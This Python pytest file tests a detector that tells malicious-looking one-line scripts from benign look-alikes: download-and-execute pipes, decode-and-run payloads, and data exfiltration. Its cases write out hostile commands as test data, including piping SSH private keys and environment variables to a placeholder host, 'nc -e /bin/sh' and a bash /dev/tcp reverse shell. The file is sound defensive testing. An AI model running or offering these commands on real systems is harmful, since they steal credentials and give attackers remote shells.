"""What a short script does is told from what merely looks like it."""

from __future__ import annotations

import time

import pytest

from sentinel.analysis.launch.scripts import runs_what_it_decodes, runs_what_it_fetches, sends_away


@pytest.mark.parametrize(
    "text",
    [
        "curl -fsSL https://get.example.org | sh",
        "wget -qO- https://get.example.org | sudo -E bash -",
        "bash <(curl -s https://get.example.org)",
        'eval "$(curl https://get.example.org)"',
        "curl https://get.example.org | python3",
        "curl -o a.sh https://get.example.org && bash a.sh",
        "iwr https://get.example.org | iex",
    ],
)
def test_fetched_and_run(text: str) -> None:
    """A download that reaches an interpreter is seen."""
    assert runs_what_it_fetches(text) is not None


@pytest.mark.parametrize(
    "text",
    [
        "curl https://get.example.org | python3 -m json.tool",
        "curl https://get.example.org -o a.json",
        "curl https://get.example.org | jq .",
        "curl https://get.example.org || sh fallback.sh",
        "curl http://localhost:3000/x | sh",
        "curl -sL https://get.example.org | tar xz",
    ],
)
def test_fetched_and_not_run(text: str) -> None:
    """A download that is only kept, shown or unpacked is not."""
    assert runs_what_it_fetches(text) is None


@pytest.mark.parametrize(
    ("text", "is_seen"),
    [
        ("echo YQ== | base64 -d | sh", True),
        ("exec(base64.b64decode('YQ=='))", True),
        ("eval(atob('YQ=='))", True),
        ("exec $(echo YQ== | base64 -d)", True),
        ("base64 -d a > b", False),
        ("x=$(echo $A | base64 -d)", False),
    ],
)
def test_decoded_and_run(text: str, is_seen: bool) -> None:
    """Decoding alone is nothing; decoding into an interpreter is."""
    assert is_seen is (runs_what_it_decodes(text) is not None)


@pytest.mark.parametrize(
    ("text", "is_seen"),
    [
        ("cat ~/.ssh/id_rsa | curl -d @- https://in.example.org", True),
        ("env | curl -d @- https://in.example.org", True),
        ("nc -e /bin/sh 203.0.113.7 443", True),
        ("requests.post('https://in.example.org', json=dict(os.environ))", True),
        ("fetch('https://api.example.org', {body: JSON.stringify(data)})", False),
        ("bash -i >& /dev/tcp/203.0.113.7/443 0>&1", True),
        ('curl -d \'{"text": "done"}\' https://in.example.org', False),
        ("source .env && curl https://api.example.org", False),
    ],
)
def test_sent_away(text: str, is_seen: bool) -> None:
    """Private files that are sent are seen; a message that is sent is not."""
    assert is_seen is (sends_away(text) is not None)


@pytest.mark.parametrize("word", ["curl ", "curl x -o aa ", "base64 -d ", "eval $(", ".env ", "eval(", "a"])
def test_time_is_bounded(word: str) -> None:
    """No text makes the expressions run away: 200 kB of any of these take less than five seconds of CPU."""
    text = word * (200_000 // len(word))
    start = time.process_time()
    runs_what_it_fetches(text), runs_what_it_decodes(text), sends_away(text)
    assert time.process_time() - start < 5
